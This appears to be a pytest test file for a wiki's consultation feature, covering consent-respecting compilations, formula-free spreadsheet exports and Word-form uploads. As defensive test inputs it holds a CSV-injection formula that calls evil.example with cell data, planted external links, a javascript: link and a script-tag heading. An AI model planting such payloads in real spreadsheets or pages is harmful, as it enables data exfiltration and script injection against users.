"""A call for input's files through HTTP (issue 30): the compilation names only respondents who
consented, the spreadsheets open with the answers and never hold a formula, and the Word form goes
round: downloaded, filled (python-docx, or written by LibreOffice), uploaded into the draft."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import time
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient

from wiki.actions import calls as actions
from wiki.actions.context import Actor

from .support.app import USERS, Auth, csrf_token, make_app

SLUG = "mandate-questionnaire"
QUESTIONS = [
    {"kind": "text", "text": "What should the **mandate** cover?"},
    {"kind": "choice", "text": "Which stakeholder category are you in?", "options": ["Government", "Civil society",
                                                                                   "Other"]},
    {"kind": "choices", "text": "Which topics matter?", "options": ["Data", "Trade", "Health"]},
]
INJECTION = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"


def actor(name: str) -> Actor:
    role, group, display = USERS[name]
    return Actor(username=name, display_name=display, email=f"{name}@example.org", group=group, role=role)


def open_call(app: Flask) -> None:
    """The call, answered by Eda (cite, civil society) and Pat (aggregate, private sector)."""
    with app.test_request_context():
        actions.create(actor("admin"), title="Mandate questionnaire", description="Tell us what you think.",
                       questions=QUESTIONS, deadline=int(time.time()) + 86400)
        actions.submit(actions.Respondent(actor("editor")), SLUG, consent="cite", organization="Open NGO",
                       answers={"q1": "Eda's view: cover data.", "q2": "Civil society", "q3": ["Data", "Health"]})
        actions.submit(actions.Respondent(actor("editor2")), SLUG, consent="aggregate", organization="Hidden Corp",
                       answers={"q1": f"Pat's view. {INJECTION}", "q2": "Other", "q3": ["Trade"]})


@pytest.fixture
def call(app: Flask) -> str:
    open_call(app)
    return SLUG


def download(client: FlaskClient, url: str) -> tuple[int, bytes]:
    """Status and body of a file the wiki sends (the response closed: exports stream from disk)."""
    with client.get(url) as response:
        return response.status_code, response.data


def draft_of(app: Flask, username: str) -> dict[str, object] | None:
    with app.test_request_context():
        return actions.draft(actions.Respondent(actor(username)), SLUG)


# --------------------------------------------------------------------------- the compilation


@pytest.mark.parametrize("who", ["anonymous", "admin"])
def test_compilation_names_only_the_consenting_respondent(client: FlaskClient, auth: Auth, call: str,
                                                          who: str) -> None:
    if who != "anonymous":
        auth.login(who)  # the secretariat sees every name on the site, but the compilation is for publishing
    response = client.get(f"/-/calls/{call}/compilation?format=md")
    assert response.status_code == 200 and response.headers["Content-Type"] == "text/markdown; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment")
    text = response.get_data(as_text=True)
    assert text.startswith("# Mandate questionnaire")
    assert "Tell us what you think." in text and "Deadline:" in text
    assert "Eda Editor, Open NGO (Civil society)" in text and "Eda's view: cover data." in text
    assert "Pat's view." in text and "A respondent (Private sector)" in text
    assert "Pat Second" not in text and "Hidden Corp" not in text
    assert "## 2. Which stakeholder category are you in?" in text and "- Civil society: 1" in text


def test_names_and_organizations_are_text_in_the_compilation(app: Flask, client: FlaskClient, call: str) -> None:
    """What a respondent types as their organization is shown as typed, never made a link, an image or
    emphasis of the document that is meant to be published (Markdown, Word and its page alike)."""
    import markdown

    planted = "[Official site](https://evil.example/) ![x](https://evil.example/p.png) **Gov** [[Home]] _x_"
    with app.test_request_context():
        actions.submit(actions.Respondent(actor("editor")), SLUG, consent="cite", organization=planted,
                       answers={"q1": "Eda's view: cover data."})
    text = client.get(f"/-/calls/{call}/compilation?format=md").get_data(as_text=True)
    html = markdown.markdown(text)
    assert "evil.example" not in "".join(re.findall(r'(?:href|src)="([^"]*)"', html))
    assert "<strong>Gov</strong>" not in html and "[[Home]]" in html
    shown = re.search(r"<em>(Eda Editor, .*?) \(Civil society\)</em>", html).group(1)
    assert shown == "Eda Editor, " + planted
    status, data = download(client, f"/-/calls/{call}/compilation?format=docx")
    words = "\n".join(paragraph.text for paragraph in docx.Document(io.BytesIO(data)).paragraphs)
    assert status == 200 and planted in words


def test_compilation_in_word_and_in_another_language(client: FlaskClient, call: str) -> None:
    status, data = download(client, f"/-/calls/{call}/compilation?format=docx")
    assert status == 200
    document = docx.Document(io.BytesIO(data))
    text = "\n".join(paragraph.text for paragraph in document.paragraphs)
    assert "Eda Editor" in text and "Eda's view: cover data." in text
    assert "Pat Second" not in text and "Hidden Corp" not in text
    french = client.get(f"/-/calls/{call}/compilation?format=md&lang=fr").get_data(as_text=True)
    assert "Pat Second" not in french and "Eda Editor" in french


@pytest.mark.parametrize(("lang", "mark"), [("ar", "\u200f"), ("en", "\u200e")])
def test_each_answer_runs_in_the_compilations_direction(client: FlaskClient, call: str, lang: str, mark: str) -> None:
    """A paragraph takes the direction of its first letter: an answer signed with a Latin name ran
    left to right in the Arabic compilation's PDF. Each starts with the mark of its direction."""
    text = client.get(f"/-/calls/{call}/compilation?format=md&lang={lang}").get_data(as_text=True)
    answers = [line for line in text.splitlines() if "view" in line]
    assert len(answers) == 2 and all(line.startswith(mark + "**") for line in answers)


@pytest.mark.parametrize(("fmt", "magic"), [("odt", b"PK"), ("pdf", b"%PDF")])
def test_compilation_in_the_other_formats(client: FlaskClient, call: str, fmt: str, magic: bytes) -> None:
    status, data = download(client, f"/-/calls/{call}/compilation?format={fmt}")
    assert status == 200 and data.startswith(magic)


def test_the_word_compilation_keeps_what_the_html_export_did(app: Flask, client: FlaskClient, call: str) -> None:
    """Converted from the Markdown (issue 30): wiki links lead to the wiki, only safe links are kept,
    an Arabic answer runs right to left, TeX and YAML in an answer stay text, the contents
    field lists the questions."""
    with app.test_request_context():
        actions.submit(actions.Respondent(actor("reviewer")), SLUG, consent="cite", organization="Uni",
                       answers={"q1": "See [[Home|the home page]] and [this](javascript:alert(1)) for $x$."
                                      "\n\n---\ntitle: kept\n...\n\nرأينا: البيانات أولا.",
                                "q2": "Other", "q3": ["Data"]})
    status, data = download(client, f"/-/calls/{call}/compilation?format=docx")
    assert status == 200
    archive = zipfile.ZipFile(io.BytesIO(data))
    links = archive.read("word/_rels/document.xml.rels").decode()
    assert 'Target="/Home"' in links and "javascript" not in links  # SITE_URL is empty here
    body = archive.read("word/document.xml").decode()
    text = "\n".join(paragraph.text for paragraph in docx.Document(io.BytesIO(data)).paragraphs)
    assert "the home page" in text and "$x$" in text and "title: kept" in text
    arabic = next(paragraph for paragraph in body.split("</w:p>") if "رأينا" in paragraph)
    assert "<w:bidi" in arabic
    assert "What should the mandate cover?" in body.split("TOC \\o")[1].split("</w:sdt>")[0]  # the contents


def test_the_word_form_in_arabic(client: FlaskClient, call: str) -> None:
    status, data = download(client, f"/-/calls/{call}/template.docx?lang=ar")
    assert status == 200
    document = docx.Document(io.BytesIO(data))
    text = "\n".join(paragraph.text for paragraph in document.paragraphs)
    assert "اكتب إجابتك تحت كل سؤال" in text and "Which topics matter?" in text  # the questions are not translated
    assert b"w:bidi" in zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml")


@pytest.mark.parametrize(("url", "status"), [
    (f"/-/calls/{SLUG}/compilation?format=exe", 400),
    (f"/-/calls/{SLUG}/compilation?format=md&lang=xx", 400),
    ("/-/calls/no-such-call/compilation?format=md", 404),
    ("/-/calls/no-such-call/responses.xlsx", 404),
    ("/-/calls/no-such-call/template.docx", 404),
])
def test_bad_file_requests(client: FlaskClient, call: str, url: str, status: int) -> None:
    assert download(client, url)[0] == status


@pytest.mark.parametrize(("lang", "names"), [
    # a Latin file type is isolated (LRI ... PDI), or the dot and parenthesis move: "(docx.)"
    ("ar", ["وورد \u2066(.docx)\u2069", "أوبن دوكيومنت \u2066(.odt)\u2069", "ماركداون", "إكسل \u2066(.xlsx)\u2069"]),
    ("zh", ["Word（.docx）", "OpenDocument（.odt）", "Excel（.xlsx）"]),
])
def test_the_file_links_are_named_in_the_readers_language(client: FlaskClient, auth: Auth, call: str, lang: str,
                                                          names: list[str]) -> None:
    auth.login("reader")
    for url in (f"/-/calls/{call}", f"/-/calls/{call}/responses"):
        page = client.get(url, headers={"Accept-Language": lang}).get_data(as_text=True)
        exports = page[page.index('<p class="call-exports">'):]
        exports = exports[:exports.index("</p>")]
        assert all(f">{name}</a>" in exports for name in names), exports


def test_the_secretariat_makes_the_compilation_a_page_or_a_proposal(app: Flask, client: FlaskClient, auth: Auth,
                                                                    call: str) -> None:
    auth.login("editor")
    form = {"page": "Compilations/Mandate", "as": "page", "csrf_token": csrf_token(client)}
    assert client.post(f"/-/calls/{call}/compilation/page", data=form).status_code == 403
    auth.logout()
    auth.login("admin")
    form["csrf_token"] = csrf_token(client)
    response = client.post(f"/-/calls/{call}/compilation/page", data=form)
    assert response.status_code == 302 and response.headers["Location"].endswith("/Compilations/Mandate")
    text = app.extensions["wiki_store"].read_page("Compilations/Mandate").text
    assert "Eda Editor" in text and "Pat Second" not in text
    assert client.post(f"/-/calls/{call}/compilation/page", data=form).status_code == 409  # it exists now
    response = client.post(f"/-/calls/{call}/compilation/page", data={**form, "as": "proposal"})
    assert response.status_code == 302 and "proposal=" in response.headers["Location"]
    assert client.post(f"/-/calls/{call}/compilation/page", data={**form, "as": "poem"}).status_code == 400


# --------------------------------------------------------------------------- spreadsheets


def test_the_spreadsheet_opens_with_the_answers(client: FlaskClient, auth: Auth, call: str) -> None:
    response = client.get(f"/-/calls/{call}/responses.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = [[cell.value or "" for cell in row] for row in sheet.iter_rows()]
    header, body = rows[0], rows[1:]
    assert header[7:] == ["q1: What should the **mandate** cover?", "q2: Which stakeholder category are you in?",
                          "q3: Which topics matter?"]
    assert len(body) == 2
    eda = next(row for row in body if row[0] == "Eda Editor")
    assert eda[1] == "Open NGO" and eda[7:] == ["Eda's view: cover data.", "Civil society", "Data; Health"]
    pat = next(row for row in body if row[0] != "Eda Editor")
    assert pat[0] == "A respondent (Private sector)" and pat[1] == "" and pat[9] == "Trade"
    assert all("Pat Second" not in str(cell) and "Hidden Corp" not in str(cell) for row in body for cell in row)
    auth.login("admin")  # the secretariat's working copy: every name
    names = [row[0].value for row in openpyxl.load_workbook(io.BytesIO(
        client.get(f"/-/calls/{call}/responses.xlsx").data)).active.iter_rows(min_row=2)]
    assert sorted(names) == ["Eda Editor", "Pat Second"]


def test_the_spreadsheets_take_the_responses_filters(client: FlaskClient, call: str) -> None:
    rows = list(csv.reader(io.StringIO(client.get(f"/-/calls/{call}/responses.csv?group=civil-society")
                                       .get_data(as_text=True).lstrip("\ufeff"))))
    assert len(rows) == 2 and rows[1][0] == "Eda Editor"
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(f"/-/calls/{call}/responses.xlsx?language=fr").data)).active
    assert sheet.max_row == 1  # the header only: nobody answered in French


def test_no_formula_reaches_a_spreadsheet(client: FlaskClient, call: str) -> None:
    with_formula = f"Pat's view. {INJECTION}"
    csv_rows = list(csv.reader(io.StringIO(client.get(f"/-/calls/{call}/responses.csv").get_data(as_text=True))))
    assert any(with_formula in row for row in csv_rows)  # not at the start of its cell: left alone
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(f"/-/calls/{call}/responses.xlsx").data)).active
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value)


def test_cells_starting_like_formulas_are_quoted(app: Flask, client: FlaskClient) -> None:
    with app.test_request_context():
        actions.create(actor("admin"), title="Mandate questionnaire", description="", questions=QUESTIONS,
                       deadline=int(time.time()) + 86400)
        actions.submit(actions.Respondent(actor("editor")), SLUG, consent="cite", organization="@SUM(A1:A9)",
                       answers={"q1": INJECTION, "q2": "Other"})
    answer = client.get(f"/-/calls/{SLUG}/responses.csv")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"  # once: it was sent twice
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True))))
    assert rows[1][1] == "'@SUM(A1:A9)" and rows[1][7] == "'" + INJECTION
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(f"/-/calls/{SLUG}/responses.xlsx").data)).active
    cells = [cell for cell in next(sheet.iter_rows(min_row=2))]
    assert cells[1].value == "'@SUM(A1:A9)" and cells[7].value == "'" + INJECTION
    assert cells[7].data_type == "s"


# --------------------------------------------------------------------------- the Word form


def upload(client: FlaskClient, data: bytes, name: str = "answers.docx"):  # noqa: ANN201
    return client.post(f"/-/calls/{SLUG}/upload", data={"csrf_token": csrf_token(client),
                                                       "file": (io.BytesIO(data), name)})


def test_template_round_trip_fills_the_draft(app: Flask, client: FlaskClient, auth: Auth, call: str) -> None:
    status, data = download(client, f"/-/calls/{call}/template.docx")
    assert status == 200
    document = docx.Document(io.BytesIO(data))
    headings = [paragraph for paragraph in document.paragraphs if paragraph.style.name.startswith("Heading")]
    assert [heading.text for heading in headings] == ["What should the mandate cover?",
                                                      "Which stakeholder category are you in?",
                                                      "Which topics matter?"]
    instructions = next(paragraph.text for paragraph in document.paragraphs if "Upload it by" in paragraph.text)
    assert "UTC" in instructions and f"http://localhost/-/calls/{call}" in instructions  # when, and where
    options = {paragraph.text: paragraph for paragraph in document.paragraphs if paragraph.text.startswith("☐")}
    assert set(options) == {"☐ Government", "☐ Civil society", "☐ Other", "☐ Data", "☐ Trade", "☐ Health"}
    headings[0].insert_paragraph_before("")  # nothing above the first question counts
    answer = headings[1].insert_paragraph_before("Cover data flows.")
    answer.insert_paragraph_before("Second paragraph first.").runs[0].bold = True
    options["☐ Government"].runs[0].text = options["☐ Government"].runs[0].text.replace("☐", "☒")
    for dropped in ("☐ Data", "☐ Trade"):  # kept: Health alone
        element = options[dropped]._element
        element.getparent().remove(element)
    filled = io.BytesIO()
    document.save(filled)

    auth.login("reader")
    response = upload(client, filled.getvalue())
    assert response.status_code == 302 and response.headers["Location"].endswith(f"/-/calls/{call}#answer")
    draft = draft_of(app, "reader")
    assert draft is not None
    assert draft["answers"] == {"q1": "**Second paragraph first.**\n\nCover data flows.", "q2": "Government",
                                "q3": ["Health"]}
    assert draft_of(app, "editor") is None  # nobody else's
    page = client.get(f"/-/calls/{call}").get_data(as_text=True)  # the answer form shows it, to check and submit
    assert "Cover data flows." in page and "You have a draft" in page


def test_the_word_form_has_a_line_to_write_on_under_each_text_question(app: Flask, client: FlaskClient,
                                                                      auth: Auth, call: str) -> None:
    """A delegate opening the form in Word finds a paragraph under each text question to click into;
    left as it is, that paragraph is no answer."""
    document = docx.Document(io.BytesIO(download(client, f"/-/calls/{call}/template.docx")[1]))
    paragraphs = document.paragraphs
    first = next(index for index, paragraph in enumerate(paragraphs)
                 if paragraph.text == "What should the mandate cover?")
    line = paragraphs[first + 1]
    assert line.text.strip() == "" and not line.style.name.startswith("Heading")
    untouched = io.BytesIO()
    document.save(untouched)
    auth.login("reader")
    response = upload(client, untouched.getvalue())
    assert response.status_code == 400 and "answers none of the call" in response.get_data(as_text=True)
    assert draft_of(app, "reader") is None


def test_the_arabic_word_form_goes_round(app: Flask, client: FlaskClient, auth: Auth) -> None:
    """Arabic headings and options come back from Word as right-to-left spans: they still name the
    questions, and the answer keeps no markup of its direction."""
    questions = [{"kind": "text", "text": "ما الثغرات التي ترونها (مثل WSIS+20)؟"},
                 {"kind": "choice", "text": "فئتكم", "options": ["حكومة", "مجتمع مدني"]}]
    with app.test_request_context():
        call = actions.create(actor("admin"), title="استبيان", description="يرجى الرد.", questions=questions,
                              deadline=int(time.time()) + 86400, language="ar")
    status, data = download(client, f"/-/calls/{call.slug}/template.docx?lang=ar")
    assert status == 200
    document = docx.Document(io.BytesIO(data))
    first = next(paragraph for paragraph in document.paragraphs if paragraph.text == questions[0]["text"])
    first.insert_paragraph_before("مقدمة")  # above the first question: not an answer
    heading = next(paragraph for paragraph in document.paragraphs if paragraph.text == "فئتكم")
    heading.insert_paragraph_before("الولاية القضائية غير واضحة.")
    chosen = next(paragraph for paragraph in document.paragraphs if paragraph.text == "☐ مجتمع مدني")
    chosen.runs[0].text = chosen.runs[0].text.replace("☐", "☒")
    filled = io.BytesIO()
    document.save(filled)

    auth.login("reader")
    response = client.post(f"/-/calls/{call.slug}/upload", data={"csrf_token": csrf_token(client),
                                                                 "file": (io.BytesIO(filled.getvalue()), "ر.docx")})
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    with app.test_request_context():
        draft = actions.draft(actions.Respondent(actor("reader")), call.slug)
    assert draft is not None and draft["answers"] == {"q1": "الولاية القضائية غير واضحة.", "q2": "مجتمع مدني"}


def test_a_document_written_by_libreoffice(app: Flask, client: FlaskClient, auth: Auth, call: str,
                                           tmp_path: Path) -> None:
    """Headings naming questions by number or id, options marked with an X, in a real Word file."""
    (tmp_path / "answers.html").write_text(
        "<html><body><h1>Mandate questionnaire</h1><p>From our delegation.</p>"
        "<h1>Question 1</h1><p>Everything about <em>data</em>.</p><h2>Details</h2><p>More.</p>"
        "<h1>q2: category</h1><ul><li>Government</li><li>X Civil society</li><li>Other</li></ul>"
        "<h1>3. Which topics matter?</h1><p>Trade</p><p>Data</p></body></html>", encoding="utf-8")
    subprocess.run(["soffice", "--headless", "--convert-to", "docx:MS Word 2007 XML", "--outdir", str(tmp_path),
                    str(tmp_path / "answers.html")], check=True, capture_output=True, timeout=120,
                   env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"})
    auth.login("reader")
    response = upload(client, (tmp_path / "answers.docx").read_bytes())
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    answers = draft_of(app, "reader")["answers"]  # type: ignore[index]
    assert answers["q1"].startswith("Everything about *data*.") and "More." in answers["q1"]
    assert answers["q2"] == "Civil society" and answers["q3"] == ["Data", "Trade"]


def word_file(*paragraphs: tuple[str, str]) -> bytes:
    document = docx.Document()
    for style, text in paragraphs:
        document.add_paragraph(text, style=style)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@pytest.mark.parametrize(("data", "name", "status", "message"), [
    (b"not a document at all", "answers.docx", 415, "not a Word"),
    (b"", "answers.docx", 400, "empty"),
    (word_file(("Heading 1", "Our general remarks"), ("Normal", "x"), ("Heading 1", "Question 1"),
               ("Normal", "y")), "answers.docx", 400, "“Our general remarks”"),
    (word_file(("Normal", "No headings at all.")), "answers.docx", 400, "answers none"),
    (word_file(("Heading 1", "Question 2"), ("Normal", "Martians")), "answers.docx", 400, "“Martians”"),
])
def test_bad_uploads_are_refused_and_save_nothing(app: Flask, client: FlaskClient, auth: Auth, call: str,
                                                  data: bytes, name: str, status: int, message: str) -> None:
    auth.login("reader")
    response = upload(client, data, name)
    assert response.status_code == status
    html = response.get_data(as_text=True)
    assert message in html.split('class="flash flash-error">')[1].split("</p>")[0]
    assert '<details class="call-word" open>' in html  # the call's page, by the upload form to try again
    assert draft_of(app, "reader") is None


def test_uploads_need_a_respondent(client: FlaskClient, call: str) -> None:
    response = upload(client, word_file(("Heading 1", "Question 1"), ("Normal", "y")))
    assert response.status_code in (401, 302)  # the login form, or a 401 saying to log in
    missing = client.post(f"/-/calls/{SLUG}/upload", data={"csrf_token": csrf_token(client)})
    assert missing.status_code in (400, 401, 302)


def test_an_invited_guest_uploads_into_their_draft(app: Flask, client: FlaskClient) -> None:
    with app.test_request_context():
        call = actions.create(actor("admin"), title="Open consultation", description="", questions=QUESTIONS,
                              deadline=int(time.time()) + 86400, audience="invited")
        token = actions.invitation_token(call)
    filled = word_file(("Heading 1", "Question 1"), ("Normal", "A guest's view."))
    response = client.post(f"/-/calls/{call.slug}/upload", data={"csrf_token": csrf_token(client), "invitation": token,
                                                                "file": (io.BytesIO(filled), "answers.docx")})
    assert response.status_code == 302 and f"invitation={token}" in response.headers["Location"]
    with client.session_transaction() as session:
        guest = session["call_guests"][call.slug]
    with app.test_request_context():
        assert actions.draft(actions.Respondent(Actor(), guest=guest), call.slug)["answers"] == {  # type: ignore[index]
            "q1": "A guest's view."}
    forged = client.post(f"/-/calls/{call.slug}/upload", data={"csrf_token": csrf_token(client), "invitation": "0" * 32,
                                                              "file": (io.BytesIO(filled), "answers.docx")})
    assert forged.status_code == 403


def test_a_hostile_heading_is_named_as_text(app: Flask, client: FlaskClient, auth: Auth, call: str) -> None:
    auth.login("reader")
    response = upload(client, word_file(("Heading 1", "<script>alert(1)</script>"), ("Normal", "x")))
    html = response.get_data(as_text=True)
    assert response.status_code == 400 and "alert(1)" in html and "<script>alert(1)" not in html


def test_a_response_larger_than_an_import_is_refused(tmp_path: Path) -> None:
    app = make_app(tmp_path / "small", MAX_IMPORT_BYTES=2000)
    open_call(app)
    client = app.test_client()
    Auth(client).login("reader")
    response = upload(client, word_file(("Heading 1", "Question 1"), ("Normal", "y" * 5000)))
    assert response.status_code == 413 and "Nothing was saved" in response.get_data(as_text=True)
    assert draft_of(app, "reader") is None
    app.extensions["wiki_store"].close()


def test_a_compilation_too_large_for_a_page_opens_no_proposal(tmp_path: Path) -> None:
    app = make_app(tmp_path / "small", MAX_PAGE_BYTES=50_000)
    open_call(app)
    with app.test_request_context():
        actions.submit(actions.Respondent(actor("reader")), SLUG, consent="cite", answers={"q1": "Long. " * 10_000})
    client = app.test_client()
    Auth(client).login("admin")
    response = client.post(f"/-/calls/{SLUG}/compilation/page", data={
        "page": "Compilations/Mandate", "as": "proposal", "csrf_token": csrf_token(client)})
    assert response.status_code == 413
    assert app.extensions["wiki_store"].proposals.list() == []
    app.extensions["wiki_store"].close()
